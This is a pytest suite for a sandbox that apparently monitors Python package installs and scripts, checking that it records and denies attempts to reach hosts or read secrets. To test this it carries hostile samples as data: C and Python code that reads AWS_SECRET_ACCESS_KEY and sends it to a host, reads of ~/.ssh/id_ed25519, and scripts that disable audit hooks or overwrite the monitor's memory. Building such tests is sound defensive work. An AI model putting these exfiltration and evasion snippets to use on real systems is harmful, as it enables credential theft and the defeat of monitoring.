"""Who did it: file, line and function of every attempt, wherever in a package's code it is made.

The attempts are lib/acts.py's; each is marked by its own place in the text.  What the kernel was asked about and what the hook says of it is one line of the record."""
from __future__ import annotations

import hashlib
import platform
import subprocess
import zipfile

import pytest

from lib import acts, packages, pythons
from lib.acts import Acts
from lib.world import canaries

PLACES = ["setup", "helper", "thread", "backend", "script", "dash_c", "runpy", "zipapp", "interpreter", "string"]
PUBLIC = "203.0.113.10"  # of the fake internet
TABLE: dict[str, dict[str, str]] = {}


@pytest.fixture(scope="module")
def programs(base):
    return acts.programs(base / "acts", PLACES)


class Guest:
    """A guest that does what is to be done and prints nothing else."""

    def __init__(self, make_world, user_named, templates, python, programs):
        self.world = make_world(user_named("user"))
        self.env = self.world.plant_canaries()
        self.world.use_venv(templates, python)
        self.python, self.programs = python, programs
        self.bin = str(self.world.venv / "bin/python")

    def acts(self, place, **more) -> Acts:
        return Acts(place, self.world.home, self.programs, **more)

    def run(self, argv, **more):
        held = self.world.guarded(["run", "--", *argv], self.env, options=["--on-violation", "deny", "--allow-read", self.programs, "--allow-read", self.world.work],
                                  timeout=120, **more)
        assert not any(c.decode() in held.journal.read_text() + held.err for c in canaries()), "a value is in the record"
        return held

    def write(self, name, text):
        return self.world.write(self.world.work / name, text, 0o644)


@pytest.fixture
def guest(make_world, user_named, templates, python, programs):
    return Guest(make_world, user_named, templates, python, programs)


def check(made: Acts, held, file, row=None):
    found = made.judge([e for e in held.events if "severity" in e], file)
    TABLE[f"{row or made.place}"] = found
    wrong = {n: w for n, w in found.items() if w}
    assert not wrong, f"{wrong}\n{held}"
    return held


def test_console_script(guest):
    made = guest.acts("script", last="")
    site = guest.world.site_packages()
    guest.world.write(site / "pwscript/__init__.py", made.text, 0o644)
    script = guest.world.write(guest.world.venv / "bin/pwscript", f"#!{guest.bin}\nimport pwscript\npwscript.run()\n", 0o755)
    held = check(made, guest.run([str(script)]), "pwscript/__init__.py")
    url = next(e for e in held.of_type("net.resolve") if e["target"]["host"].startswith("urlopen."))
    assert url["source"] == "kernel" and url["origin"]["source"] == "shim", url
    assert url["target"]["method"] == "POST" and url["target"]["bytes"] == 1234 and url["target"]["url"] == "https://urlopen.script.test/take?…", url
    put = next(e for e in held.of_type("net.resolve") if e["target"]["host"].startswith("client."))
    assert (put["target"]["method"], put["target"]["url"], put["target"]["bytes"]) == ("PUT", "http://client.script.test:8080/put", 77), put


def test_dash_c(guest):
    made = guest.acts("dash_c")
    check(made, guest.run([guest.bin, "-c", made.text]), "<string>")


@pytest.mark.parametrize("flags", [["-I"], ["-S"], ["-E"], ["-X", "dev"]], ids=lambda f: "".join(f))
def test_flags(guest, flags):
    made = guest.acts("dash_c")
    check(made, guest.run([guest.bin, *flags, "-c", made.text]), "<string>", "dash_c " + "".join(flags))


@pytest.fixture(scope="module")
def older(base):
    (base / "older").mkdir()
    return [p for p in pythons.find(base / "older", everything=True) if p.version not in ((3, 13), pythons.distribution().version)]


@pytest.mark.slow
def test_other_pythons(older, make_world, user_named, programs):
    """All that pyenv has, from 3.8 on."""
    if not older:
        pytest.skip("there is no other CPython here")  # optional: where pyenv is installed
    for python in older:
        world = make_world(user_named("user"))
        made = Acts("dash_c", world.home, programs)
        path = world.write(world.work / "acts.py", made.text, 0o644)
        held = world.guarded(["run", "--", str(python.path), "-I", str(path)], world.plant_canaries(),
                             options=["--on-violation", "deny", "--allow-read", programs, "--allow-read", world.work], timeout=120)
        check(made, held, str(path), f"Python {python.name}")


def test_runpy(guest):
    made = guest.acts("runpy")
    path = guest.write("ran.py", made.text)
    check(made, guest.run([guest.bin, "-c", f"import runpy; runpy.run_path({str(path)!r}, run_name='__main__')"]), str(path))


def test_zipapp(guest):
    made = guest.acts("zipapp")
    path = guest.world.work / "app.pyz"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("__main__.py", made.text)
    path.chmod(0o644)
    check(made, guest.run([guest.bin, str(path)]), f"{path}/__main__.py")


def test_thread(guest):
    made = guest.acts("thread", last="import threading\nt = threading.Thread(target=run)\nt.start()\nt.join()\n", leave_out=acts.FORKS)
    path = guest.write("threads.py", made.text)
    check(made, guest.run([guest.bin, str(path)]), str(path))


def test_subinterpreter(guest):
    name = "_interpreters" if guest.python.version >= (3, 13) else "_xxsubinterpreters"
    made = guest.acts("interpreter", leave_out=acts.FORKS if guest.python.version >= (3, 12) else acts.FORKS | {"popen", "searched"})  # nobody forks in one
    path = guest.write("inner.py", made.text)
    inner = f"import runpy; runpy.run_path({str(path)!r}, run_name='__main__')"
    check(made, guest.run([guest.bin, "-c", f"import {name} as i\nn = i.create()\ni.run_string(n, {inner!r})\n"]), str(path))


def test_string(guest):
    """Code that has no file but what it is called."""
    made = guest.acts("string")
    path = guest.write("outer.py", f"exec(compile({made.text!r}, '<unpacked>', 'exec'))\n")
    held = check(made, guest.run([guest.bin, str(path)]), "<unpacked>")
    outer = [e for e in held.of_type("python.compile") if e["origin"].get("file") == str(path)]
    assert len(outer) == 1 and outer[0]["origin"]["line"] == 1 and outer[0]["target"]["name"] == "<unpacked>", outer


BACKEND = """from tinyback import *
import tinyback


def build_wheel(*args, **kwargs):
    run()
    return tinyback.build_wheel(*args, **kwargs)
"""


def test_builds(make_world, user_named, templates, python, programs, base):
    """setup.py, a module that it imports, and a back end that lies in the source's folder."""
    world = make_world(user_named("user"))
    env = world.plant_canaries()
    world.use_venv(templates, python)
    folder = base / f"origins-{python.name}"
    packages.build_tools(folder)
    packages.tinyback(folder)
    setup = Acts("setup", world.home, programs, last="run()\nimport os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\nimport helper\n"
                 "from setuptools import setup\nsetup(name='pwsetup', version='1.0', py_modules=['pwsetup'])\n")
    helper = Acts("helper", world.home, programs, leave_out={"system", "dlopen", "getenv"}, respelt="/.")  # both are of one package
    backend = Acts("backend", world.home, programs, last=BACKEND)
    packages.sdist(folder, "pwsetup", "1.0", {"setup.py": setup.text, "helper.py": helper.text, "pwsetup.py": ""})
    packages.sdist(folder, "pwbackend", "1.0", {
        "pyproject.toml": '[build-system]\nrequires = ["tinyback"]\nbuild-backend = "be"\nbackend-path = ["."]\n'
                          '[project]\nname = "pwbackend"\nversion = "1.0"\n',
        "be.py": backend.text, "pwbackend.c": (packages.FIXTURES / "native" / "module.c").read_text().replace("NAME", "pwbackend")})
    held = world.guarded(["pip", "install", "--no-index", "--find-links", folder, "pwsetup", "pwbackend"], env,
                         options=["--on-violation", "deny", "--allow-read", f"build:{programs}"])
    assert "Successfully installed pwbackend-1.0 pwsetup-1.0" in held.out, str(held)
    assert not any(c.decode() in held.journal.read_text() + held.err for c in canaries())
    mine = lambda name: [e for e in held.events if e.get("package", {}).get("name") == name]
    for made, name, file in ((setup, "pwsetup", "setup.py"), (helper, "pwsetup", "helper.py"), (backend, "pwbackend", "be.py")):
        found = made.judge(mine(name), file)
        TABLE[made.place] = found
        assert not {n: w for n, w in found.items() if w}, f"{made.place}: { {n: w for n, w in found.items() if w} }\n{held}"


NATIVE = r"""
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

__attribute__((noinline)) int pwt_attempt(int port);
int pwt_attempt(int port)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((unsigned short)port)};
	char *value = getenv("AWS_SECRET_ACCESS_KEY");
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	inet_pton(AF_INET, "10.203.0.2", &to.sin_addr);
	printf("%d %d\n", value != NULL, connect(fd, (struct sockaddr *)&to, sizeof to));
	return close(fd);
}
"""
MAIN = "int main(int argc, char **argv) { return pwt_attempt(argc > 1 ? atoi(argv[1]) : 1); }\n"


def test_native_code(guest):
    """A program, a library that Python loads, and a program that has no shim: object and symbol, or nothing."""
    folder = guest.world.work
    source = guest.write("native.c", NATIVE + MAIN)
    for name, flags in (("program", ["-rdynamic"]), ("static", ["-static"]), ("libpwt.so", ["-shared", "-fPIC"])):
        subprocess.run(["cc", "-O1", *flags, "-o", folder / name, source], check=True, timeout=60)
    code = (f"import ctypes, subprocess\nsubprocess.run(['{folder}/program', '21001'])\nsubprocess.run(['{folder}/static', '21002'])\n"
            f"ctypes.CDLL('{folder}/libpwt.so').pwt_attempt(21003)\n")
    path = guest.write("native.py", code)
    held = guest.run([guest.bin, str(path)])
    assert held.out == "1 -1\n" * 3, str(held)
    by = {e["target"]["port"]: e for e in held.of_type("net.connect")}
    wanted = {21001: (f"{folder}/program", "pwt_attempt"), 21002: (None, None), 21003: (f"{folder}/libpwt.so", "pwt_attempt")}
    assert {n: (e.get("origin", {}).get("object"), e.get("origin", {}).get("symbol")) for n, e in by.items()} == wanted, by
    assert by[21002]["shim"] == "absent" and "shim" not in by[21001], by
    reads = {(e["origin"].get("object"), e["origin"].get("symbol")) for e in held.of_type("env.read")}
    assert reads == {wanted[21001], wanted[21003]}, reads
    started = {e["target"]["as_written"]: e["origin"].get("line") for e in held.of_type("exec") if e["target"]["as_written"].startswith(f"{folder}/")}
    assert started == {f"{folder}/program": 2, f"{folder}/static": 3}, started
    load = [e for e in held.of_type("python.load") if e["target"]["path"] == f"{folder}/libpwt.so"]
    assert [e["origin"]["line"] for e in load] == [4], load


def test_what_is_sent(make_world, user_named, templates, distribution, net):
    """To a host that is allowed: a line for the request, by method, URL and size, and no decoy's real value in it."""
    world = make_world(user_named("user"), net)
    env = world.plant_canaries()
    world.use_venv(templates, distribution)
    net.dns.addresses["allowed.test"] = [PUBLIC]
    code = ("import os, urllib.request\nkey = os.environ['AWS_SECRET_ACCESS_KEY']\n"
            "try:\n    urllib.request.urlopen('http://allowed.test/p?k=' + key, key.encode() * 10, 5)\nexcept OSError:\n    pass\n")
    held = world.guarded(["run", "--", str(world.venv / "bin/python"), "-c", code], env,
                         options=["--on-violation", "deny", "--allow-host", "guest:allowed.test:80"], timeout=60)
    sent = held.of_type("python.http")
    assert len(sent) == 1 and sent[0]["target"]["method"] == "POST" and sent[0]["target"]["bytes"] == 10 * len(env["AWS_SECRET_ACCESS_KEY"]), f"{held}\n{held.events[1:]}"
    assert sent[0]["target"]["url"] == "http://allowed.test/p?…" and sent[0]["origin"]["line"] == 4 and sent[0]["severity"] == "info", sent
    connected = [e for e in held.of_type("net.connect") if e["target"].get("host") == "allowed.test"]
    assert connected and connected[0]["source"] == "kernel" and connected[0]["origin"]["line"] == 4 and connected[0]["target"]["method"] == "POST", connected
    assert not any(c.decode() in held.journal.read_text() + held.err for c in canaries())


def test_requests(guest):
    """By a library that stands between (pip's own copy of requests and urllib3): named is who called it, and for what."""
    path = guest.write("asks.py", "from pip._vendor import requests\n\n\ndef ask():\n    requests.post('https://asked.test/take', data=b'x' * 1234, timeout=2)\n\n\n"
                       "try:\n    ask()\nexcept requests.RequestException:\n    pass\n")
    held = guest.run([guest.bin, str(path)])
    asked = [e for e in held.of_type("net.resolve") if e["target"].get("host") == "asked.test" and "first" not in e]
    assert len(asked) == 1 and asked[0]["origin"] == {"source": "shim", "file": str(path), "line": 5, "function": "ask"}, f"{asked}\n{held}"
    assert {n: asked[0]["target"][n] for n in ("url", "method", "bytes")} == {"url": "https://asked.test/take", "method": "POST", "bytes": 1234}, asked
    assert held.of_type("python.http") == [], str(held)
    assert f"asked for asked.test for POST https://asked.test/take, 1234 bytes at {path}:5 in ask" in held.err, held.err


def test_texts_are_kept(make_world, user_named, templates, distribution):
    """Beside the record in the state folder, under their digest, for the user alone."""
    world = make_world(user_named("user"))
    world.use_venv(templates, distribution)
    text = "made = 'kept %d'" % 7
    held = world.run([world.pipwarden, "run", "--", str(world.venv / "bin/python"), "-c", f"exec({text!r}); exec('#' * 2000000)"], timeout=60)
    assert held.status == 0, str(held)
    kept = list(world.home.glob(".local/state/pipwarden/runs/*/code/*.py"))
    mine = [p for p in kept if p.read_text() == text]
    assert len(mine) == 1 and mine[0].stem == hashlib.sha256(text.encode()).hexdigest(), kept
    assert oct(mine[0].stat().st_mode & 0o777) == "0o600" and oct(mine[0].parent.stat().st_mode & 0o777) == "0o700" and mine[0].stat().st_uid == world.user.uid
    assert all(p.stat().st_size < 1 << 20 for p in kept)


# What hostile code does about the hook, and what is then still known of an attempt on the private key: that it was made, and was refused.
EVASIONS = {
    "class_gone": "import os\nos._Environ = None\ndel os.environ",
    "bytes": "import os\nos.environb[b'AWS_SECRET_ACCESS_KEY']",
    "posix": "import posix\nposix.environ[b'AWS_SECRET_ACCESS_KEY']",
    "reload": "import importlib, os, socket, builtins\nimportlib.reload(os)\nimportlib.reload(socket)",
    "builtins": "import builtins\nbuiltins.exec = builtins.eval = builtins.open = None",
    "original": "import gc, os\nos.open = [f for f in gc.get_objects() if getattr(f, '__name__', '') == 'open'][0]",
    "no_frames": "import sys\nsys.settrace(None)\nsys.setrecursionlimit(100)",
    "hooks": "import ctypes\ntry:\n    ctypes.pythonapi._PySys_ClearAuditHooks(ctypes.c_void_p(0))\nexcept Exception:\n    pass",
}


@pytest.mark.parametrize("evasion", EVASIONS)
def test_evasion(evasion, guest):
    """The explanation may be lost, the attempt and its refusal are not, and the program behaves as it would."""
    secret = guest.world.home / ".ssh/id_ed25519"
    path = guest.write("evade.py", EVASIONS[evasion] + f"\nimport _io\ntry:\n    _io.open('{secret}')\nexcept OSError as e:\n    print(type(e).__name__)\n")
    plain = guest.world.run([guest.bin, str(path)], guest.env, timeout=60)
    held = guest.run([guest.bin, str(path)])
    assert (plain.status, plain.out, plain.err) == (0, "", ""), str(plain)
    assert held.out == "PermissionError\n", str(held)
    mine = [e for e in held.of_type("file.open") if e["target"].get("path") == str(secret)]
    assert len(mine) == 1 and mine[0]["action"] == "denied" and mine[0]["source"] == "kernel", str(held)
    print(evasion, mine[0].get("origin"))


BARE = """import ctypes, sys
if sys.argv[1:]:
    try:
        open(sys.argv[1])
    except OSError as e:
        print(type(e).__name__, flush=True)
else:
    argv = (ctypes.c_char_p * 4)(sys.executable.encode(), __file__.encode(), b"SECRET", None)
    ctypes.CDLL(None).syscall(NUMBER, argv[0], argv, (ctypes.c_char_p * 1)(None))
"""


def test_interpreter_without_the_shim(guest):
    """Started by the plain system call, with nothing in its environment."""
    secret = guest.world.home / ".ssh/id_ed25519"
    path = guest.write("bare.py", BARE.replace("SECRET", str(secret)).replace("NUMBER", {"x86_64": "59", "aarch64": "221"}[platform.machine()]))
    held = guest.run([guest.bin, str(path)])
    assert held.out == "PermissionError\n", str(held)
    mine = [e for e in held.of_type("file.open") if e["target"].get("path") == str(secret)]
    assert len(mine) == 1 and mine[0]["action"] == "denied" and mine[0]["shim"] == "absent" and "origin" not in mine[0], mine


LIES = r"""
import ctypes, os
# A ring of one's own, told at a check-in of one's own: what was said first counts.  And nonsense by the other calls.
libc = ctypes.CDLL(None)
made = ctypes.create_string_buffer(1 << 16)
libc.prctl(0x50575244, ctypes.c_ulong(1), made, ctypes.c_ulong(len(made)), 0)
for op in (4, 7):
    for size in (0, 1, 2464, 2496, 2840, 1 << 16):
        libc.prctl(0x50575244, ctypes.c_ulong(op), os.urandom(size + 1), ctypes.c_ulong(size), 0)
# The hook's own ring, wherever it lies: overwritten, byte by byte of it.
magic = (0x73746e65746e6957).to_bytes(8, "little")
done = 0
with open("/proc/self/maps") as maps:
    areas = [l.split()[0].split("-") for l in maps if " rw-p " in l]
for low, high in areas:
    low, high = int(low, 16), int(high, 16)
    if high - low < 1 << 22:
        data = ctypes.string_at(low, high - low)
        at = data.find(magic)
        while at >= 0:
            if int.from_bytes(data[at + 8:at + 16], "little") == low + at:
                ctypes.memset(low + at + 16, 0xff, 1000)
                done += 1
            at = data.find(magic, at + 1)
print("overwritten", done)
try:
    open(os.environ["PWT_PATH"])
except OSError as e:
    print(type(e).__name__)
"""


def test_lies(guest):
    path = guest.write("lies.py", LIES)
    secret = guest.world.home / ".ssh/id_ed25519"
    guest.env["PWT_PATH"] = str(secret)
    held = guest.run([guest.bin, str(path)])
    assert held.out == "overwritten 1\nPermissionError\n", str(held)
    mine = [e for e in held.of_type("file.open") if e["target"].get("path") == str(secret)]
    assert len(mine) == 1 and mine[0]["action"] == "denied", str(held)


def test_table():
    """Of everything that was tried above at least 99 in a hundred."""
    if not TABLE:
        pytest.skip("nothing was tried in this session")  # the rows are other tests of this file
    right = sum(1 for row in TABLE.values() for w in row.values() if not w)
    whole = sum(len(row) for row in TABLE.values())
    width = max(map(len, TABLE))
    print()
    for row, found in TABLE.items():
        print(f"{row:{width}}  {sum(not w for w in found.values()):3} of {len(found):3}  " + ", ".join(f"{n}: {w}" for n, w in found.items() if w))
    print(f"{'all':{width}}  {right:3} of {whole:3}")
    assert right * 100 >= whole * 99
